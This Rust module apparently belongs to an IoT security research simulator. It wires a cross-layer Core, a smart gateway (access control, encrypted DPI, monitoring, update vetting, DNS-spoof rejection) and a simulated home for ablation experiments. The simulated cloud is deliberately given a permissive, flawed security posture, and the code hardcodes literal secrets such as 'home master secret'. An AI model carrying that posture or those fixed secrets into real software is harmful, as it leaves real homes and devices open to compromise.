//! The assembled framework: [`XlfCore`] (aggregation + correlation +
//! policy), the [`XlfGateway`] smart-gateway node that hosts the network-
//! and device-layer mechanisms ("it could realize its full potential when
//! deployed in the network layer by extending the existing smart IoT
//! gateway", §IV-D), and the [`XlfHome`] builder that wires a complete
//! simulated home with per-mechanism switches for ablation studies.

use crate::alerts::{Alert, AlertSink, Severity};
use crate::appverify::{AppVerifier, WitnessedEvent};
use crate::auth::{DelegationProxy, LatencyModel};
use crate::bus::{EvidenceBus, EvidenceDrain};
use crate::correlation::{CorrelationConfig, CorrelationEngine, Verdict};
use crate::dataanalytics::DataAnalytics;
use crate::dpi::{default_rules, EncryptedDpi};
use crate::evidence::EvidenceStore;
use crate::nac::{AccessDecision, Nac};
use crate::netmonitor::NetMonitor;
use crate::policy::{PolicyConfig, PolicyEngine, ResponseAction};
use crate::shaping::{ShapingMode, TrafficShaper};
use crate::updatevet::UpdateVetter;
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::rc::Rc;
use xlf_cloud::{CloudNode, DeviceHandler, EventPolicy, SmartCloud};
use xlf_device::{decode_reading, DeviceConfig, SensorKind, SimDevice, VulnSet};
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::searchable::{Token, Tokenizer};
use xlf_protocols::dns::{DnsRecord, RecordType};
use xlf_simnet::{
    Context, Duration, Kind, Medium, Network, Node, NodeId, Packet, SimTime, TimerId,
};

/// The vendor hub name every registered device is allowed to resolve
/// (the destination a DNS-poisoning attacker tries to hijack).
pub const VENDOR_DNS_NAME: &str = "hub.vendor.example";

/// Per-mechanism switches and tuning for one XLF deployment.
#[derive(Debug, Clone)]
pub struct XlfConfig {
    /// Network access control + quarantine enforcement.
    pub nac: bool,
    /// Traffic shaping mode for upstream flows.
    pub shaping: ShapingMode,
    /// Encrypted DPI on payloads crossing the gateway.
    pub dpi: bool,
    /// Rate/DFA network monitoring.
    pub netmonitor: bool,
    /// Application verification of downstream commands.
    pub appverify: bool,
    /// Telemetry analytics.
    pub dataanalytics: bool,
    /// OTA vetting at the gateway.
    pub update_vetting: bool,
    /// How long monitors learn before enforcing.
    pub learning_period: Duration,
    /// Correlation tuning (including single-layer ablations).
    pub correlation: CorrelationConfig,
    /// Response thresholds.
    pub policy: PolicyConfig,
    /// How often the Core evaluates.
    pub evaluation_interval: Duration,
    /// Evidence-bus queue capacity. `None` = unbounded (the single-home
    /// default); `Some(cap)` bounds the queue with a shed-oldest policy
    /// (see [`EvidenceBus::bounded`]) — fleet workers multiplexing many
    /// homes use this so one chatty home cannot OOM its shard.
    pub evidence_capacity: Option<usize>,
    /// Delay between a policy decision and its enforcement at the
    /// gateway. Zero when the Core runs *on* the gateway (the paper's
    /// edge deployment); a WAN round trip plus processing when the Core
    /// is hosted in the cloud (§IV-D discusses both placements).
    pub response_delay: Duration,
}

impl XlfConfig {
    /// Everything on — the full cross-layer deployment.
    pub fn full() -> Self {
        XlfConfig {
            nac: true,
            shaping: ShapingMode::Off,
            dpi: true,
            netmonitor: true,
            appverify: true,
            dataanalytics: true,
            update_vetting: true,
            learning_period: Duration::from_secs(120),
            correlation: CorrelationConfig::default(),
            policy: PolicyConfig::default(),
            evaluation_interval: Duration::from_secs(5),
            evidence_capacity: None,
            response_delay: Duration::ZERO,
        }
    }

    /// Everything off — the undefended baseline (gateway degenerates to a
    /// plain forwarding hub).
    pub fn off() -> Self {
        XlfConfig {
            nac: false,
            shaping: ShapingMode::Off,
            dpi: false,
            netmonitor: false,
            appverify: false,
            dataanalytics: false,
            update_vetting: false,
            learning_period: Duration::from_secs(120),
            correlation: CorrelationConfig::default(),
            policy: PolicyConfig {
                warn_threshold: 2.0, // unreachable
                act_threshold: 2.0,
            },
            evaluation_interval: Duration::from_secs(5),
            evidence_capacity: None,
            response_delay: Duration::ZERO,
        }
    }

    /// Bounds the evidence bus (builder-style); see
    /// [`XlfConfig::evidence_capacity`].
    pub fn with_evidence_capacity(mut self, capacity: Option<usize>) -> Self {
        self.evidence_capacity = capacity;
        self
    }
}

/// The XLF Core: evidence aggregation, correlation, alerting, policy.
pub struct XlfCore {
    /// The aggregated evidence store.
    pub store: EvidenceStore,
    drain: EvidenceDrain,
    /// Cloneable handle mechanisms report through.
    pub bus: EvidenceBus,
    /// Fusion engine.
    pub correlation: CorrelationEngine,
    /// Alert pipeline.
    pub alerts: AlertSink,
    /// Response policy.
    pub policy: PolicyEngine,
}

impl std::fmt::Debug for XlfCore {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfCore")
            .field("evidence", &self.store.len())
            .field("alerts", &self.alerts.alerts().len())
            .finish_non_exhaustive()
    }
}

impl XlfCore {
    /// Creates a Core with the given tuning and an unbounded evidence
    /// bus.
    pub fn new(correlation: CorrelationConfig, policy: PolicyConfig) -> Self {
        Self::with_evidence_capacity(correlation, policy, None)
    }

    /// Creates a Core whose evidence bus is bounded to `capacity` queued
    /// observations (`None` = unbounded). On overload the bus sheds its
    /// oldest queued observation per excess report; sheds are visible
    /// through [`EvidenceBus::shed`] on [`XlfCore::bus`].
    pub fn with_evidence_capacity(
        correlation: CorrelationConfig,
        policy: PolicyConfig,
        capacity: Option<usize>,
    ) -> Self {
        let (bus, drain) = match capacity {
            Some(cap) => EvidenceBus::bounded(cap),
            None => EvidenceBus::new(),
        };
        XlfCore {
            store: EvidenceStore::new(),
            drain,
            bus,
            correlation: CorrelationEngine::new(correlation),
            alerts: AlertSink::new(),
            policy: PolicyEngine::new(policy),
        }
    }

    /// Drains pending evidence, fuses verdicts, raises alerts, and
    /// returns the response actions policy mandates.
    pub fn evaluate(&mut self, now: SimTime) -> Vec<ResponseAction> {
        self.drain.drain_into(&mut self.store);
        let mut all_actions = Vec::new();
        for verdict in self.correlation.evaluate_all(&self.store, now) {
            let (severity, actions) = self.policy.respond(&verdict, now);
            if severity > Severity::Info {
                self.alerts.raise(Alert {
                    at: now,
                    device: verdict.device.clone(),
                    severity,
                    score: verdict.score,
                    explanation: format!("layers {:?}, kinds {:?}", verdict.layers, verdict.kinds),
                });
            }
            all_actions.extend(actions);
        }
        all_actions
    }

    /// Moves at most `max` pending bus observations into the store
    /// without evaluating; returns how many moved. A fleet worker
    /// multiplexing many homes calls this between simulation slices so
    /// one chatty home cannot stall its whole shard (the remainder stays
    /// queued for the next slice or the next [`XlfCore::evaluate`]).
    pub fn drain_pending(&mut self, max: usize) -> usize {
        self.drain.drain_up_to(&mut self.store, max)
    }

    /// Observations queued on the bus but not yet drained.
    pub fn pending_evidence(&self) -> usize {
        self.drain.pending()
    }

    /// Fuses a verdict for one device right now (used by experiments).
    pub fn verdict_for(&mut self, device: &str, now: SimTime) -> Verdict {
        self.drain.drain_into(&mut self.store);
        self.correlation.evaluate_device(&self.store, device, now)
    }
}

/// A shared handle to the Core (the gateway, experiments, and harnesses
/// all hold one).
pub type CoreHandle = Rc<RefCell<XlfCore>>;

const TIMER_EVALUATE: u64 = 101;
const TIMER_FINISH_LEARNING: u64 = 102;
const TIMER_APPLY_RESPONSES: u64 = 103;
const TIMER_COVER_TRAFFIC: u64 = 104;

/// Token lifetime while the Core sees active suspicion (§IV-A1: "the XLF
/// Core determines the lifetime of the authentication tokens based on
/// the correlation results").
const SUSPICIOUS_TOKEN_LIFETIME: Duration = Duration::from_secs(300);
/// Token lifetime during calm periods.
const CALM_TOKEN_LIFETIME: Duration = Duration::from_secs(3600);

/// The XLF smart gateway: a forwarding hub with the device- and
/// network-layer security functions bolted on, reporting to the Core.
pub struct XlfGateway {
    core: CoreHandle,
    config: XlfConfig,
    cloud: NodeId,
    devices: BTreeMap<String, NodeId>,
    /// `devices` inverted, so each upstream packet finds its device by
    /// source node in one lookup.
    device_names: BTreeMap<NodeId, String>,
    /// Network-access control + quarantine.
    pub nac: Nac,
    shaper: TrafficShaper,
    monitor: NetMonitor,
    verifier: AppVerifier,
    analytics: DataAnalytics,
    vetter: UpdateVetter,
    /// Per-device DPI middleboxes (bound to per-device session secrets).
    dpi: BTreeMap<String, (EncryptedDpi, Tokenizer)>,
    /// Token stream reused by every DPI scan, so tokenizing a payload
    /// allocates nothing once the buffer has grown.
    token_scratch: Vec<Token>,
    /// The §IV-A1 authentication delegation proxy; its token lifetime is
    /// steered by the Core's correlation results.
    pub auth_proxy: DelegationProxy,
    /// Last upstream activity (real or cover) per device, for
    /// constant-rate cover-traffic injection.
    last_upstream: BTreeMap<String, SimTime>,
    bus: EvidenceBus,
    /// Quarantines decided but not yet enforced (cloud-hosted Core).
    pending_quarantines: Vec<String>,
    master_secret: Vec<u8>,
    /// Packets dropped by quarantine / NAC / vetting / verification.
    pub dropped: u64,
    /// Packets forwarded.
    pub forwarded: u64,
}

impl std::fmt::Debug for XlfGateway {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfGateway")
            .field("devices", &self.devices.len())
            .field("dropped", &self.dropped)
            .field("forwarded", &self.forwarded)
            .finish_non_exhaustive()
    }
}

impl XlfGateway {
    /// Creates a gateway bridging `cloud`, wired to `core`.
    ///
    /// # Panics
    ///
    /// If `master_secret` is empty: no per-device DPI session key can be
    /// derived from it.
    pub fn new(core: CoreHandle, config: XlfConfig, cloud: NodeId, master_secret: &[u8]) -> Self {
        assert!(
            !master_secret.is_empty(),
            "XlfGateway needs a non-empty master secret"
        );
        let bus = core.borrow().bus.clone();
        let mut vetter = UpdateVetter::new(&crate::dpi::xlf_attacks_signatures().to_vec());
        vetter.trust_vendor("acme", b"acme vendor secret");
        let shaper = TrafficShaper::new(config.shaping, 0x5107);
        XlfGateway {
            core,
            cloud,
            devices: BTreeMap::new(),
            device_names: BTreeMap::new(),
            nac: Nac::new().with_bus(bus.clone()),
            shaper,
            monitor: NetMonitor::new().with_bus(bus.clone()),
            verifier: AppVerifier::new().with_bus(bus.clone()),
            analytics: DataAnalytics::new().with_bus(bus.clone()),
            vetter: vetter.with_bus(bus.clone()),
            dpi: BTreeMap::new(),
            token_scratch: Vec::new(),
            auth_proxy: DelegationProxy::new(LatencyModel::default()),
            last_upstream: BTreeMap::new(),
            bus,
            pending_quarantines: Vec::new(),
            master_secret: master_secret.to_vec(),
            config,
            dropped: 0,
            forwarded: 0,
        }
    }

    /// Registers a device behind the gateway, allowlisting its cloud path
    /// and its vendor hub name (the only destination NAC lets it resolve).
    pub fn register_device(&mut self, name: &str, node: NodeId) {
        if let Some(old) = self.devices.insert(name.to_string(), node) {
            self.device_names.remove(&old);
        }
        self.device_names.insert(node, name.to_string());
        self.nac.allow_node(name, self.cloud);
        self.nac.allow_destination(name, VENDOR_DNS_NAME);
    }

    /// Shaping cost so far (the E-M3 overhead axis).
    pub fn shaping_cost(&self) -> crate::shaping::ShapingCost {
        self.shaper.cost
    }

    /// Application-verification counters `(explained, unexplained)`.
    pub fn appverify_stats(&self) -> (u64, u64) {
        self.verifier.stats
    }

    fn dpi_for(&mut self, device: &str) -> &mut (EncryptedDpi, Tokenizer) {
        let core = &self.core;
        let master_secret = &self.master_secret;
        self.dpi.entry(device.to_string()).or_insert_with(|| {
            let secret = derive_key(master_secret, &format!("dpi/{device}"), 16)
                .unwrap_or_else(|_| unreachable!("XlfGateway::new rejects an empty master secret"));
            let tokenizer = Tokenizer::new(&secret)
                .unwrap_or_else(|_| unreachable!("derive_key returned 16 bytes"));
            let mut middlebox =
                EncryptedDpi::new(default_rules()).with_bus(core.borrow().bus.clone());
            middlebox.bind_tokenizer(&tokenizer);
            (middlebox, tokenizer)
        })
    }

    fn scan_payload(&mut self, device: &str, payload: &[u8], now: SimTime) -> bool {
        if !self.config.dpi || payload.is_empty() {
            return false;
        }
        let mut tokens = std::mem::take(&mut self.token_scratch);
        let (middlebox, tokenizer) = self.dpi_for(device);
        tokenizer.tokenize_into(payload, &mut tokens);
        let hit = !middlebox.inspect(device, &tokens, now).is_empty();
        self.token_scratch = tokens;
        hit
    }

    fn device_name_of(&self, node: NodeId) -> Option<String> {
        self.device_names.get(&node).cloned()
    }

    fn handle_upstream(&mut self, ctx: &mut Context<'_>, mut packet: Packet, device: String) {
        let now = ctx.now();
        if self.config.nac && self.nac.is_quarantined(&device) {
            self.dropped += 1;
            return;
        }
        if self.config.netmonitor {
            self.monitor.observe_packet(&device, now);
        }
        self.last_upstream.insert(device.clone(), now);
        // Scan application payloads crossing the gateway.
        self.scan_payload(&device, &packet.payload, now);

        // WAN-bound source routing (the DDoS path) goes through NAC.
        if let Some(target) = packet.final_dst.take() {
            if self.config.nac && self.nac.check_node(&device, target, now) != AccessDecision::Allow
            {
                self.dropped += 1;
                return;
            }
            self.forwarded += 1;
            ctx.send(target, packet);
            return;
        }

        match packet.kind {
            Kind::Telemetry { .. } => {
                if let Some((attribute, value)) = decode_reading(&packet.payload) {
                    if self.config.appverify {
                        self.verifier.witness_event(WitnessedEvent {
                            device: device.clone(),
                            attribute: attribute.to_string(),
                            value: value.to_string(),
                            at: now,
                        });
                    }
                    // Seasonal baselines suit smooth physical signals;
                    // event-like attributes (motion, camera activity) are
                    // bimodal by nature and are profiled by the DFA/rate
                    // monitors instead.
                    let seasonal = matches!(attribute.as_ref(), "temperature" | "power" | "smoke");
                    if self.config.dataanalytics && seasonal {
                        if let Ok(v) = value.parse::<f64>() {
                            self.analytics.observe(&device, &attribute, v, now);
                        }
                    }
                }
            }
            Kind::Event { from, to } => {
                // The device-layer malware-detection function (§IV-A4):
                // a device attesting a compromised state is first-class
                // device-layer evidence.
                if to == "compromised" {
                    self.bus.report(crate::evidence::Evidence::new(
                        now,
                        crate::evidence::Layer::Device,
                        &device,
                        crate::evidence::EvidenceKind::DfaViolation,
                        1.0,
                        "device reported transition into a compromised state",
                    ));
                }
                if self.config.netmonitor {
                    self.monitor
                        .observe_transition(&device, from, "cmd", to, now);
                }
                if self.config.appverify {
                    self.verifier.witness_event(WitnessedEvent {
                        device: device.clone(),
                        attribute: "state".to_string(),
                        value: to.to_string(),
                        at: now,
                    });
                }
            }
            _ => {}
        }

        // Forward upstream with shaping.
        let mut fwd = packet;
        let decision = self.shaper.shape(fwd.wire_size);
        fwd.pad_to(decision.padded_size);
        self.forwarded += 1;
        ctx.send_after(self.cloud, fwd, decision.delay);
    }

    fn handle_downstream(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        let now = ctx.now();
        let Some(device) = packet.device.as_deref() else {
            return;
        };
        let Some(&node) = self.devices.get(device) else {
            return;
        };
        if self.config.nac && self.nac.is_quarantined(device) && packet.kind != Kind::Ota {
            self.dropped += 1;
            return;
        }
        match &packet.kind {
            Kind::Cmd { action, command } => {
                let action = command.as_deref().or(*action).unwrap_or("");
                self.scan_payload(device, &packet.payload, now);
                if self.config.appverify && !self.verifier.check_command(device, action, now) {
                    self.dropped += 1;
                    return;
                }
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            Kind::Ota => {
                if self.config.update_vetting {
                    if self.vetter.vet(device, &packet.payload, now).is_err() {
                        self.dropped += 1;
                        return;
                    }
                } else {
                    self.scan_payload(device, &packet.payload, now);
                }
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            Kind::Login { .. } | Kind::Probe { .. } => {
                self.scan_payload(device, &packet.payload, now);
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            Kind::DnsResponse { name, value, txid } => {
                // A WAN-side DNS answer claiming to resolve a name for a
                // device. NAC's hardened resolver adjudicates it (txid +
                // DNSSEC checks); rejected spoofs are dropped and show up
                // as `DnsBlocked` evidence. Without NAC the gateway
                // blindly forwards — the unprotected baseline.
                if !self.config.nac {
                    self.forwarded += 1;
                    ctx.send(node, packet);
                    return;
                }
                let record = DnsRecord::new(name, RecordType::A, value, 300);
                match self.nac.resolve_for(device, name, (record, *txid), now) {
                    Ok(_) => {
                        self.forwarded += 1;
                        ctx.send(node, packet);
                    }
                    Err(_) => {
                        self.dropped += 1;
                    }
                }
            }
            _ => {
                self.forwarded += 1;
                ctx.send(node, packet);
            }
        }
    }
}

impl Node for XlfGateway {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(self.config.evaluation_interval, TIMER_EVALUATE);
        ctx.set_timer(self.config.learning_period, TIMER_FINISH_LEARNING);
        if let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping {
            ctx.set_timer(cover_interval, TIMER_COVER_TRAFFIC);
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
        match tag {
            TIMER_EVALUATE => {
                let actions = self.core.borrow_mut().evaluate(ctx.now());
                let actions_present = !actions.is_empty();
                let mut decided = Vec::new();
                for action in actions {
                    match action {
                        ResponseAction::Quarantine { device } => decided.push(device),
                        ResponseAction::RevokeTokens { .. }
                        | ResponseAction::ForceFirmwareRollback { .. }
                        | ResponseAction::NotifyUser { .. } => {
                            // Delivered to the cloud/user out of band; the
                            // alert sink records the notification.
                        }
                    }
                }
                // §IV-A1: correlation results steer auth-token lifetimes —
                // any active response shortens them, calm restores them.
                if actions_present {
                    self.auth_proxy
                        .set_token_lifetime(SUSPICIOUS_TOKEN_LIFETIME);
                } else {
                    self.auth_proxy.set_token_lifetime(CALM_TOKEN_LIFETIME);
                }
                if self.config.nac && !decided.is_empty() {
                    if self.config.response_delay == Duration::ZERO {
                        for device in decided {
                            self.nac.quarantine(&device);
                        }
                    } else {
                        // Cloud-hosted Core: the decision travels back to
                        // the gateway over the WAN before it can bite.
                        self.pending_quarantines.extend(decided);
                        ctx.set_timer(self.config.response_delay, TIMER_APPLY_RESPONSES);
                    }
                }
                ctx.set_timer(self.config.evaluation_interval, TIMER_EVALUATE);
            }
            TIMER_APPLY_RESPONSES => {
                for device in std::mem::take(&mut self.pending_quarantines) {
                    self.nac.quarantine(&device);
                }
            }
            TIMER_COVER_TRAFFIC => {
                let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping else {
                    return;
                };
                let now = ctx.now();
                let devices: Vec<String> = self.devices.keys().cloned().collect();
                for device in devices {
                    if self.config.nac && self.nac.is_quarantined(&device) {
                        continue;
                    }
                    let last = self
                        .last_upstream
                        .get(&device)
                        .copied()
                        .unwrap_or(SimTime::ZERO);
                    let covers = self.shaper.cover_packets_for(now.since(last));
                    if !covers.is_empty() {
                        self.last_upstream.insert(device.clone(), now);
                    }
                    for size in covers {
                        let mut pkt = Packet::new(ctx.id(), self.cloud, Kind::Cover, Vec::new())
                            .with_protocol(xlf_simnet::Protocol::Tls)
                            .with_device(&device);
                        pkt.pad_to(size);
                        self.forwarded += 1;
                        ctx.send(self.cloud, pkt);
                    }
                }
                ctx.set_timer(cover_interval, TIMER_COVER_TRAFFIC);
            }
            TIMER_FINISH_LEARNING => {
                self.monitor.finish_learning();
                self.verifier.finish_learning();
            }
            _ => {}
        }
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        // Upstream = the packet came from a registered device node.
        if let Some(device) = self.device_name_of(packet.src) {
            self.handle_upstream(ctx, packet, device);
        } else {
            self.handle_downstream(ctx, packet);
        }
    }
}

/// Descriptor of one device in a built home.
#[derive(Debug, Clone)]
pub struct HomeDevice {
    /// Device name.
    pub name: String,
    /// Sensor modality.
    pub sensor: SensorKind,
    /// Vulnerability profile.
    pub vulns: VulnSet,
    /// Telemetry period.
    pub telemetry_period: Duration,
    /// Cloud capabilities registered for it.
    pub capabilities: Vec<xlf_cloud::Capability>,
}

impl HomeDevice {
    /// A hardened device with sane defaults.
    pub fn new(name: &str, sensor: SensorKind) -> Self {
        let capability = match sensor {
            SensorKind::Temperature => xlf_cloud::Capability::TemperatureMeasurement,
            SensorKind::Motion => xlf_cloud::Capability::MotionSensor,
            SensorKind::Smoke => xlf_cloud::Capability::SmokeDetector,
            SensorKind::Power => xlf_cloud::Capability::EnergyMeter,
            SensorKind::Camera => xlf_cloud::Capability::VideoStream,
        };
        HomeDevice {
            name: name.to_string(),
            sensor,
            vulns: VulnSet::hardened(),
            telemetry_period: Duration::from_secs(30),
            capabilities: vec![capability, xlf_cloud::Capability::Switch],
        }
    }

    /// Replaces the vulnerability profile (builder-style).
    pub fn with_vulns(mut self, vulns: VulnSet) -> Self {
        self.vulns = vulns;
        self
    }

    /// Overrides the telemetry period (builder-style).
    pub fn with_telemetry_period(mut self, period: Duration) -> Self {
        self.telemetry_period = period;
        self
    }
}

/// A fully wired simulated home with XLF deployed.
pub struct XlfHome {
    /// The simulation.
    pub net: Network,
    /// Shared Core handle.
    pub core: CoreHandle,
    /// Cloud node id.
    pub cloud: NodeId,
    /// Gateway node id.
    pub gateway: NodeId,
    /// Device name → node id.
    pub devices: BTreeMap<String, NodeId>,
}

impl std::fmt::Debug for XlfHome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfHome")
            .field("devices", &self.devices.len())
            .finish_non_exhaustive()
    }
}

impl XlfHome {
    /// Builds a home: cloud (id 0), gateway (id 1), then one node per
    /// device, all linked (devices over ZigBee/WiFi by modality, gateway
    /// to cloud over WAN).
    pub fn build(seed: u64, config: XlfConfig, home_devices: &[HomeDevice]) -> XlfHome {
        let mut net = Network::new(seed);
        let core: CoreHandle = Rc::new(RefCell::new(XlfCore::with_evidence_capacity(
            config.correlation.clone(),
            config.policy.clone(),
            config.evidence_capacity,
        )));

        let cloud_id = NodeId::from_raw(0);
        let gateway_id = NodeId::from_raw(1);

        // The cloud is deliberately built with the *flawed* 2016-era
        // posture the paper analyzes (permissive events and permissions):
        // XLF's thesis is that the cross-layer framework protects the home
        // even when the service layer itself is gullible.
        let mut cloud = SmartCloud::new(
            EventPolicy::permissive(),
            xlf_cloud::smartapp::PermissionModel::Permissive,
            b"hub secret",
        );
        for d in home_devices {
            cloud.register_device(DeviceHandler::new(&d.name, &d.capabilities));
        }
        let actual_cloud = net.add_node(Box::new(CloudNode::new(cloud, gateway_id)));
        assert_eq!(actual_cloud, cloud_id);

        let mut gateway = XlfGateway::new(core.clone(), config, cloud_id, b"home master secret");
        let first_device_raw = 2u32;
        for (i, d) in home_devices.iter().enumerate() {
            gateway.register_device(&d.name, NodeId::from_raw(first_device_raw + i as u32));
        }
        let actual_gateway = net.add_node(Box::new(gateway));
        assert_eq!(actual_gateway, gateway_id);

        let mut devices = BTreeMap::new();
        for d in home_devices {
            let cfg = DeviceConfig::new(&d.name, d.sensor, gateway_id)
                .with_vulns(d.vulns.clone())
                .with_telemetry_period(d.telemetry_period);
            let id = net.add_node(Box::new(SimDevice::new(cfg)));
            let medium = match d.sensor {
                SensorKind::Camera => Medium::Wifi,
                _ => Medium::Zigbee,
            };
            net.connect(gateway_id, id, medium.link().with_loss(0.0));
            devices.insert(d.name.clone(), id);
        }
        net.connect(gateway_id, cloud_id, Medium::Wan.link().with_loss(0.0));

        XlfHome {
            net,
            core,
            cloud: cloud_id,
            gateway: gateway_id,
            devices,
        }
    }

    /// Convenience: the gateway node, downcast.
    ///
    /// # Panics
    ///
    /// If `self.gateway` was repointed at a node that is not an
    /// [`XlfGateway`].
    pub fn gateway_ref(&self) -> &XlfGateway {
        self.net
            .node_as::<XlfGateway>(self.gateway)
            .unwrap_or_else(|| panic!("node {:?} is not an XlfGateway", self.gateway))
    }

    /// Convenience: a device node, downcast.
    ///
    /// # Panics
    ///
    /// If `name` is not a device of this home.
    pub fn device_ref(&self, name: &str) -> &SimDevice {
        self.devices
            .get(name)
            .and_then(|&id| self.net.node_as::<SimDevice>(id))
            .unwrap_or_else(|| panic!("no device {name:?} in this home"))
    }

    /// Wraps this home in a reusable [`HomeRunner`] (installs the traffic
    /// tap the behaviour features come from).
    pub fn into_runner(self) -> HomeRunner {
        HomeRunner::new(self)
    }
}

/// Deterministic, thread-portable summary of one finished home run: what
/// a higher aggregation tier (the fleet Core) consumes. Everything here
/// is `Send + Clone` and derived only from the simulation state, so the
/// same seed always yields the same report.
#[derive(Debug, Clone, PartialEq)]
pub struct HomeReport {
    /// The seed the home was built from.
    pub seed: u64,
    /// Evidence records aggregated by this home's Core.
    pub evidence_total: usize,
    /// Observations lost for any reason: drain end gone when they were
    /// reported, plus observations shed under overload (always `>=`
    /// [`HomeReport::evidence_shed`]).
    pub evidence_dropped: u64,
    /// Observations shed (evicted oldest-first) by a bounded evidence
    /// bus under overload — the overload subset of
    /// [`HomeReport::evidence_dropped`]. 0 on an unbounded bus.
    pub evidence_shed: u64,
    /// Evidence counts per layer: `[device, network, service]`.
    pub evidence_by_layer: [usize; 3],
    /// Warning-or-higher alerts raised.
    pub warning_alerts: usize,
    /// Critical alerts raised.
    pub critical_alerts: usize,
    /// Devices quarantined by NAC at the end of the run.
    pub quarantined: Vec<String>,
    /// The most suspicious device and its fused verdict score.
    pub top_device: String,
    /// Fused suspicion score of `top_device` in `[0, 1]`.
    pub top_score: f64,
    /// Packets the gateway forwarded.
    pub forwarded: u64,
    /// Packets the gateway dropped (quarantine / NAC / vetting).
    pub dropped_packets: u64,
    /// Behaviour feature vector of the home's traffic trace (see
    /// [`xlf_analytics::features::window_features`]).
    pub features: Vec<f64>,
}

/// Cumulative, **side-effect-free** counters read from a live home
/// mid-run. Unlike [`HomeRunner::report`] this never drains the evidence
/// bus and never fuses verdicts, so probing between simulation slices
/// cannot perturb bounded-bus shed patterns or correlation state — a
/// probed (streamed) run stays byte-identical to an unprobed (batch) run
/// of the same home. Windowed deltas are two probes subtracted.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct HomeProbe {
    /// Evidence records aggregated into the Core's store so far.
    pub evidence_total: usize,
    /// Aggregated evidence per layer: `[device, network, service]`.
    pub evidence_by_layer: [usize; 3],
    /// Warning-or-higher alerts raised so far.
    pub warning_alerts: usize,
    /// Critical alerts raised so far.
    pub critical_alerts: usize,
    /// Packets the gateway has forwarded so far.
    pub forwarded: u64,
    /// Packets the gateway has dropped so far.
    pub dropped_packets: u64,
    /// Wire bytes observed by the runner's tap so far.
    pub wire_bytes: u64,
    /// Packets observed by the runner's tap so far.
    pub packets: u64,
}

/// A reusable run handle over one [`XlfHome`]: owns the home, a traffic
/// tap, and the stepping/summary logic the multi-home experiments and
/// the fleet engine previously wired up ad hoc. Not `Send` (the home's
/// Core is `Rc`-shared) — build and drive it on one thread, then ship
/// the [`HomeReport`] across threads.
pub struct HomeRunner {
    home: XlfHome,
    records: Rc<RefCell<Vec<xlf_simnet::observer::PacketRecord>>>,
    probe_cursor: RefCell<ProbeCursor>,
}

/// Incremental probe counters. The evidence store and the tap's record
/// log are both append-only, so each probe folds in only the entries
/// added since the previous probe instead of rescanning from the start —
/// at a 15 s probe cadence the per-epoch cost is proportional to the
/// epoch's traffic, not the run's. Interior-mutable cache only:
/// [`HomeRunner::probe`] still performs no simulation side effects.
#[derive(Debug, Default)]
struct ProbeCursor {
    evidence_seen: usize,
    by_layer: [usize; 3],
    records_seen: usize,
    wire_bytes: u64,
    packets: u64,
}

impl std::fmt::Debug for HomeRunner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("HomeRunner")
            .field("devices", &self.home.devices.len())
            .field("records", &self.records.borrow().len())
            .finish_non_exhaustive()
    }
}

impl HomeRunner {
    /// Wraps `home`, installing the recording tap its behaviour features
    /// come from. Install before running: features cover the whole run.
    pub fn new(mut home: XlfHome) -> Self {
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        HomeRunner {
            home,
            records,
            probe_cursor: RefCell::new(ProbeCursor::default()),
        }
    }

    /// Builds a fresh home from a spec and wraps it.
    pub fn build(seed: u64, config: XlfConfig, devices: &[HomeDevice]) -> Self {
        Self::new(XlfHome::build(seed, config, devices))
    }

    /// The wrapped home (e.g. to add attacker nodes before running).
    pub fn home_mut(&mut self) -> &mut XlfHome {
        &mut self.home
    }

    /// The wrapped home, read-only.
    pub fn home(&self) -> &XlfHome {
        &self.home
    }

    /// Steps the simulation to `t`.
    pub fn run_until(&mut self, t: SimTime) {
        self.home.net.run_until(t);
    }

    /// Steps the simulation to `t`, processing at most `budget` events.
    /// Returns `(events_processed, truncated)`; a truncated home keeps
    /// whatever evidence it drained so far and can still be summarized
    /// via [`HomeRunner::finish`] — the fleet tier's degraded mode.
    pub fn run_until_capped(&mut self, t: SimTime, budget: u64) -> (u64, bool) {
        self.home.net.run_until_capped(t, budget)
    }

    /// Reads the cumulative side-effect-free counters (see
    /// [`HomeProbe`]). Safe to call at any point mid-run, any number of
    /// times: it only reads — no drains, no verdict fusion — so it can
    /// never change what the simulation or the final report would do.
    pub fn probe(&self) -> HomeProbe {
        let core = self.home.core.borrow();
        let mut cursor = self.probe_cursor.borrow_mut();
        let evidence = core.store.all();
        for e in &evidence[cursor.evidence_seen..] {
            let idx = match e.layer {
                crate::evidence::Layer::Device => 0,
                crate::evidence::Layer::Network => 1,
                crate::evidence::Layer::Service => 2,
            };
            cursor.by_layer[idx] += 1;
        }
        cursor.evidence_seen = evidence.len();
        let records = self.records.borrow();
        for r in &records[cursor.records_seen..] {
            cursor.wire_bytes += r.wire_size as u64;
            cursor.packets += 1;
        }
        cursor.records_seen = records.len();
        let gateway = self.home.gateway_ref();
        HomeProbe {
            evidence_total: core.store.len(),
            evidence_by_layer: cursor.by_layer,
            warning_alerts: core.alerts.count_at_least(Severity::Warning),
            critical_alerts: core.alerts.count_at_least(Severity::Critical),
            forwarded: gateway.forwarded,
            dropped_packets: gateway.dropped,
            wire_bytes: cursor.wire_bytes,
            packets: cursor.packets,
        }
    }

    /// Finishes the run at `now`: one final Core evaluation sweep (so
    /// late evidence is fused), then the summary a fleet tier consumes.
    pub fn finish(self, now: SimTime) -> HomeReport {
        self.home.core.borrow_mut().evaluate(now);
        self.report(now)
    }

